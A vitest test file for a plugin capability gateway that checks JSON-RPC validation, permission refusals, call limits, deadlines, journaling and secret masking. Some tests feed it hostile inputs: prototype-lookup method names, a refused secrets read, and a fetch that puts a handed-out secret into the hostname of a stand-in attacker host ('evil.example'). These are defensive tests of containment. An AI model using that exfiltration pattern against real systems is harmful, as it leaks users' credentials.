import { AmbitError, MESSAGE_BYTES, MESSAGE_DEPTH, PENDING_CALLS, type CapabilityProxy } from "@ambit/api-types";
import fc from "fast-check";
import { expect, test } from "vitest";
import { createMemoryStore } from "../stores/memory/create-memory-store.ts";
import { GatewayRig } from "../testing/gateway-rig.ts";

const wide = { limits: { hostCalls: 1000 } };

test("an allowed call is done, answered and journaled", async () => {
  const rig = new GatewayRig();
  expect(await rig.call("kv/set", { key: "a", value: { n: [1] } })).toEqual({});
  expect(await rig.call("kv/get", { key: "a" })).toEqual({ found: true, value: { n: [1] } });
  expect(await rig.records()).toMatchObject([
    { method: "kv/set", outcome: "ok", plugin: "notes", version: "1.0.0", instance: "i1", backend: "test", target: "" },
    { method: "kv/get", outcome: "ok" },
  ]);
});

test.for([
  ["no JSON", "{", "MESSAGE_MALFORMED"],
  ["empty", "", "MESSAGE_MALFORMED"],
  ["a list", "[]", "INVALID_REQUEST"],
  ["no version", '{"id":1,"method":"kv/get"}', "INVALID_REQUEST"],
  ["an id that is an object", '{"jsonrpc":"2.0","id":{},"method":"kv/get"}', "INVALID_REQUEST"],
  ["a method that is no text", '{"jsonrpc":"2.0","id":1,"method":1}', "INVALID_REQUEST"],
  ["too deep", "[".repeat(MESSAGE_DEPTH + 1) + "]".repeat(MESSAGE_DEPTH + 1), "MESSAGE_TOO_DEEP"],
  ["too large", `"${"x".repeat(MESSAGE_BYTES)}"`, "MESSAGE_TOO_LARGE"],
] as const)("a message that is %s is answered and journaled by its own code", async ([, text, code]) => {
  const rig = new GatewayRig();
  expect(await rig.send(text)).toMatchObject({ jsonrpc: "2.0", id: null, error: { data: { code } } });
  expect(await rig.records()).toMatchObject([{ method: "message", code, outcome: code.startsWith("MESSAGE_TOO") ? "limited" : "failed" }]);
  expect(await rig.call("kv/get", { key: "a" })).toEqual({ found: false, value: null });
});

test.for([
  ["kv/get", undefined, "INVALID_PARAMS"],
  ["kv/get", { key: 1 }, "INVALID_PARAMS"],
  ["kv/get", { key: "a", more: 1 }, "INVALID_PARAMS"],
  ["kv/get", { key: "\ud800" }, "INVALID_PARAMS"],
  ["kv/steal", {}, "METHOD_NOT_FOUND"],
  ["toString", {}, "METHOD_NOT_FOUND"],
  ["__proto__", {}, "METHOD_NOT_FOUND"],
  ["net/fetch", { url: "https://api.example.dev/x?token=SECRET" }, "PERMISSION_DENIED"],
  ["fs/read", { root: "temp", path: "a" }, "PERMISSION_DENIED"],
  ["secrets/get", { name: "token" }, "PERMISSION_DENIED"],
] as const)("%s with %o ends in %s", async ([method, params, code]) => {
  const rig = new GatewayRig();
  expect(await rig.call(method, params)).toBe(code);
  const [record] = await rig.records();
  expect(record).toMatchObject({ method, code, outcome: code === "PERMISSION_DENIED" ? "refused" : "failed" });
  expect(JSON.stringify(record)).not.toMatch(/SECRET|\/x/);
});

test("a message without an id is done and not answered", async () => {
  const rig = new GatewayRig();
  expect(await rig.send('{"jsonrpc":"2.0","method":"kv/set","params":{"key":"a","value":1}}')).toBeUndefined();
  expect(await rig.send('{"jsonrpc":"2.0","method":"net/fetch","params":{"url":"https://x.example/"}}')).toBeUndefined();
  expect(await rig.send('{"jsonrpc":"2.0","id":1,"result":1}')).toBeUndefined();
  expect(await rig.store.kv.get({ pluginId: "notes" }, "a")).toBe(1);
  expect((await rig.records()).map(({ outcome }) => outcome)).toEqual(["ok", "refused"]);
});

test("past its budget a plugin gets one answer for each call and one journal line for all", async () => {
  const rig = new GatewayRig({ manifest: { limits: { hostCalls: 3 } } });
  rig.budget.begin();
  const answers = [];
  for (let at = 0; at < 10; at++) answers.push(await rig.call("kv/get", { key: "a" }));
  expect(await rig.send("{")).toMatchObject({ error: { data: { code: "MESSAGE_MALFORMED" } } });
  expect(answers.slice(3)).toEqual(Array(7).fill("LIMIT_EXCEEDED"));
  const records = await rig.records();
  expect(records.filter(({ code }) => code === "LIMIT_EXCEEDED")).toHaveLength(1);
  expect(records).toHaveLength(4);
  expect(rig.metrics.snapshot()).toMatchObject({ 'plugin.limits_total{limit="hostCalls"}': 7 });
  rig.budget.end();
  rig.budget.begin();
  expect(await rig.call("kv/get", { key: "a" })).toEqual({ found: false, value: null });
});

/** A proxy in the place of `kv/get`. */
function standIn(run: CapabilityProxy["run"]): CapabilityProxy {
  return { method: "kv/get", run };
}

test("what a proxy throws and is no error of ours stays here", async () => {
  for (const run of [async () => Promise.reject(new Error("at /srv/host/secret.db")), () => { throw new TypeError("at /srv/host/secret.db"); }]) {
    const rig = new GatewayRig({ proxies: [standIn(run)] });
    const answer = await rig.send('{"jsonrpc":"2.0","id":1,"method":"kv/get","params":{"key":"a"}}');
    expect(answer).toMatchObject({ error: { code: -32603, data: { code: "INTERNAL_ERROR" } } });
    expect(JSON.stringify(answer)).not.toContain("/srv");
    expect(JSON.stringify(await rig.records())).not.toContain("/srv");
    expect(rig.errors).toHaveLength(1);
  }
});

test("a result that is not the call's is the host's own fault", async () => {
  const rig = new GatewayRig({ proxies: [standIn(async () => ({ result: { found: "yes" } }))] });
  expect(await rig.call("kv/get", { key: "a" })).toBe("INTERNAL_ERROR");
  expect(rig.errors).toHaveLength(1);
});

test("an answer that a guest could not take is an error", async () => {
  const rig = new GatewayRig({ proxies: [standIn(async () => ({ result: { found: true, value: "x".repeat(MESSAGE_BYTES) } }))] });
  expect(await rig.call("kv/get", { key: "a" })).toBe("MESSAGE_TOO_LARGE");
});

test("the end of the instance ends what is under way, and aborts it", async () => {
  let signal: AbortSignal | undefined;
  const rig = new GatewayRig({ proxies: [standIn((request) => { signal = request.signal; return new Promise(() => {}); })] });
  const under = rig.call("kv/get", { key: "a" });
  await new Promise(setImmediate);
  rig.gateway.stop(new AmbitError("INSTANCE_STOPPED", "It ended."));
  expect(await under).toBe("INSTANCE_STOPPED");
  expect(signal?.aborted).toBe(true);
  expect(await rig.call("kv/get", { key: "a" })).toBe("INSTANCE_STOPPED");
});

test("a call has a deadline, whatever its proxy does", async () => {
  const rig = new GatewayRig({ manifest: { limits: { callSeconds: 1 } }, proxies: [standIn(() => new Promise(() => {}))] });
  const started = performance.now();
  expect(await rig.call("kv/get", { key: "a" })).toBe("LIMIT_EXCEEDED");
  expect(performance.now() - started).toBeGreaterThan(950);
});

test("calls that wait are bounded by what is in them too, for as long as a proxy holds it", async () => {
  const open: (() => void)[] = [];
  const slow: CapabilityProxy = { method: "kv/set", run: () => new Promise((resolve) => open.push(() => resolve({ result: {} }))) };
  const rig = new GatewayRig({ manifest: wide, proxies: [slow] });
  const large = { key: "a", value: "x".repeat(MESSAGE_BYTES - 1000) };
  const waiting = Array.from({ length: 4 }, () => rig.call("kv/set", large));
  await expect.poll(() => open.length).toBe(4);
  expect(await rig.call("kv/set", large)).toBe("LIMIT_EXCEEDED");
  expect(await rig.call("kv/get", { key: "a" })).toEqual({ found: false, value: null });
  for (const end of open.splice(0)) end();
  expect(await Promise.all(waiting)).toEqual([{}, {}, {}, {}]);
  const again = rig.call("kv/set", large);
  await expect.poll(() => open.length).toBe(1);
  open[0]?.();
  expect(await again).toEqual({});
});

test("only so many calls wait at once", async () => {
  const waiting: (() => void)[] = [];
  const rig = new GatewayRig({ manifest: wide, proxies: [standIn(() => new Promise((resolve) => waiting.push(() => resolve({ result: { found: false, value: null } }))))] });
  const calls = Array.from({ length: PENDING_CALLS + 1 }, () => rig.call("kv/get", { key: "a" }));
  expect(await calls[PENDING_CALLS]).toBe("LIMIT_EXCEEDED");
  for (const resolve of waiting) resolve();
  expect(await calls[0]).toEqual({ found: false, value: null });
});

test("while the journal cannot be written nothing is done", async () => {
  const store = createMemoryStore();
  let isFull = true;
  const journal = { ...store.journal, append: async () => (isFull ? Promise.reject(new Error("full")) : 1), tail: async () => [], read: async () => [], prune: async () => 0 };
  const rig = new GatewayRig({ store: { ...store, journal } });
  await rig.call("kv/get", { key: "a" });
  await rig.journal.flush().catch(() => {});
  expect(await rig.call("kv/set", { key: "a", value: 1 })).toBe("STORE_FAILED");
  expect(await store.kv.get({ pluginId: "notes" }, "a")).toBeUndefined();
  isFull = false;
});

test("what changes the world is durable in the journal before the guest hears of it", async () => {
  const store = createMemoryStore();
  const proxy: CapabilityProxy = { method: "net/fetch", run: async () => ({ result: { status: 200, statusText: "", headers: [], body: "", encoding: "utf8" }, bytesIn: 5, bytesOut: 7 }) };
  const rig = new GatewayRig({ store, manifest: { permissions: { network: [{ name: "api.example.dev" }] } }, proxies: [proxy] });
  await rig.call("net/fetch", { url: "https://api.example.dev/" });
  expect(await store.journal.tail(1)).toMatchObject([{ method: "net/fetch", target: "api.example.dev", bytesIn: 5, bytesOut: 7 }]);
});

test("a secret that was handed out is masked from then on", async () => {
  const rig = new GatewayRig({ manifest: { permissions: { secrets: [{ name: "token" }] } } });
  await rig.store.secrets.set({ pluginId: "notes" }, "token", "hunter2hunter2");
  expect(await rig.call("secrets/get", { name: "token" })).toEqual({ value: "hunter2hunter2" });
  await rig.call("net/fetch", { url: "https://hunter2hunter2.evil.example/" });
  const text = JSON.stringify(await rig.records());
  expect(text).not.toContain("hunter2");
  expect(text).toContain("[secret].evil.example");
});

test("whatever a guest sends, it gets an answer of the protocol or none, and the host has nothing to report", async () => {
  const rig = new GatewayRig({ manifest: wide });
  const member = fc.constantFrom("jsonrpc", "id", "method", "params", "result", "error", "__proto__", "key", "url");
  const value = fc.oneof(fc.json(), fc.constantFrom('"2.0"', '"kv/get"', '"net/fetch"', "1", '{"key":"a"}', '{"url":"https://x.example"}'));
  const object = fc.array(fc.tuple(member, value), { maxLength: 5 }).map((members) => `{${members.map(([name, text]) => `"${name}":${text}`).join(",")}}`);
  await fc.assert(
    fc.asyncProperty(fc.oneof(fc.string({ unit: "binary" }), fc.json(), object), async (text) => {
      const answer = await rig.send(text);
      if (answer !== undefined) expect(answer).toMatchObject({ jsonrpc: "2.0" });
    }),
    { numRuns: 500 },
  );
  expect(rig.errors).toEqual([]);
});
